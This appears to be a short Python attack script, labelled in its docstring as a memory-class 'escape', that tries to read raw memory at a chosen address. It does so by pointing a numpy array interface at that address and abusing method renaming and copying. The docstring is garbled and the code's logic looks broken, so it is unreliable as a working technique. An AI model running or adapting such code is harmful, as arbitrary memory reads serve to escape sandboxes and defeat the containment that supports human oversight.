"""Class: memory. Source: own find. Escape: memory outside is read: a method is copied by reading its name of its
object, and the name of a function of the attack's own is what the attack says."""

import copy

import numpy as np


class Own:
    def method(self):
        pass


def attack(model, tokenizer, address):
    described = {"version": 3, "typestr": "|u1", "shape": (6,), "data": (address, True)}
    found = []
    for copied in (copy.copy, lambda x: copy.deepcopy([x])[0]):
        own = Own()
        Own.method.__name__ = "__dict__"
        try:
            copied(own.method)["__array_interface__"] = described
            found.append(bytes(np.array(own).tolist()))
        except TypeError:
            pass
    return found
